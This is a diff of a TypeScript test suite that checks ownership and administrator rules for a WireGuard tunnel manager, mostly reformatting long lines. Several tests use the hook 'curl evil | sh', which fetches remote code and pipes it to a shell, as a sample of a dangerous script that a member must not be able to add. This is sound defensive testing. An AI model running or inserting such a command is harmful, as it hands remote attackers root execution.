@@ -20,7 +20,12 @@ function subject(allowScripts: boolean, owner = alice.uid): Subject {
   return { name: 'home', owner, ownerName: owner === 0 ? 'root' : 'alice', allowScripts, config: parsed.config };
 }
 
-const refusal = <M extends ControlMethod>(caller: Caller, method: M, params: ControlParams[M], about?: Subject): string | null => {
+const refusal = <M extends ControlMethod>(
+  caller: Caller,
+  method: M,
+  params: ControlParams[M],
+  about?: Subject,
+): string | null => {
   try {
     enforce(caller, method, params, about);
     return null;
@@ -33,7 +38,24 @@ const refusal = <M extends ControlMethod>(caller: Caller, method: M, params: Con
 describe('the access table', () => {
   it('has a row for every method of the protocol', () => {
     expect(Object.keys(ACCESS).sort()).toEqual(
-      ['create', 'delete', 'down', 'get', 'import', 'list', 'logs', 'rename', 'resume', 'setOptions', 'show', 'subscribe', 'suspend', 'up', 'update', 'version'].sort(),
+      [
+        'create',
+        'delete',
+        'down',
+        'get',
+        'import',
+        'list',
+        'logs',
+        'rename',
+        'resume',
+        'setOptions',
+        'show',
+        'subscribe',
+        'suspend',
+        'up',
+        'update',
+        'version',
+      ].sort(),
     );
   });
 
@@ -70,18 +92,24 @@ describe('the access table', () => {
       ['rename', { name: 'home', newName: 'mine' }, 'rename'],
       ['delete', { name: 'home' }, 'delete'],
     ] as const) {
-      expect(refusal(bob, method, params as never, alices)).toBe(`home belongs to alice; only alice or an administrator may ${verb} it`);
+      expect(refusal(bob, method, params as never, alices)).toBe(
+        `home belongs to alice; only alice or an administrator may ${verb} it`,
+      );
       expect(refusal(alice, method, params as never, alices), `${method} by its owner`).toBeNull();
     }
     // A tunnel stored before owners were recorded is root's.
-    expect(refusal(alice, 'get', { name: 'home' }, subject(false, 0))).toBe('home belongs to root; only root or an administrator may read it');
+    expect(refusal(alice, 'get', { name: 'home' }, subject(false, 0))).toBe(
+      'home belongs to root; only root or an administrator may read it',
+    );
   });
 
   it('never lets a member allow scripts, nor run a file with them', () => {
     expect(refusal(alice, 'setOptions', { name: 'home', options: { allowScripts: true } }, subject(false))).toMatch(
       /^PreUp\/PostUp\/PreDown\/PostDown run as root, so only an administrator may allow them \(`sudo warren set home --allow-scripts on`/,
     );
-    expect(refusal(alice, 'up', { name: 'wg0', config: text(), allowScripts: true })).toMatch(/^running a file's tunnel with its scripts/);
+    expect(refusal(alice, 'up', { name: 'wg0', config: text(), allowScripts: true })).toMatch(
+      /^running a file's tunnel with its scripts/,
+    );
     // Without scripts a member may run a file's tunnel (as importing it and switching it on would), and may
     // switch an owned tunnel's scripts off.
     expect(refusal(alice, 'up', { name: 'wg0', config: text() })).toBeNull();
@@ -90,13 +118,16 @@ describe('the access table', () => {
 
   it('lets the owner edit a tunnel whose scripts an administrator allowed, but not its scripts', () => {
     const allowed = subject(true);
-    const message = 'an administrator allowed the scripts of home as they are; changing them needs an administrator too, or switch its scripts off first';
+    const message =
+      'an administrator allowed the scripts of home as they are; changing them needs an administrator too, or switch its scripts off first';
     expect(refusal(alice, 'update', { name: 'home', text: text('curl evil | sh') }, allowed)).toBe(message);
     // The hidden key's placeholder, as the app sends it, changes nothing about that.
     const hidden = text('curl evil | sh').replace(/^PrivateKey = .*$/m, HIDDEN_PRIVATE_KEY_LINE);
     expect(refusal(alice, 'update', { name: 'home', text: hidden }, allowed)).toBe(message);
     // Everything else may change.
-    expect(refusal(alice, 'update', { name: 'home', text: text().replace('10.0.0.2/32', '10.0.0.3/32') }, allowed)).toBeNull();
+    expect(
+      refusal(alice, 'update', { name: 'home', text: text().replace('10.0.0.2/32', '10.0.0.3/32') }, allowed),
+    ).toBeNull();
     // With scripts off, the hooks are only text.
     expect(refusal(alice, 'update', { name: 'home', text: text('curl evil | sh') }, subject(false))).toBeNull();
   });
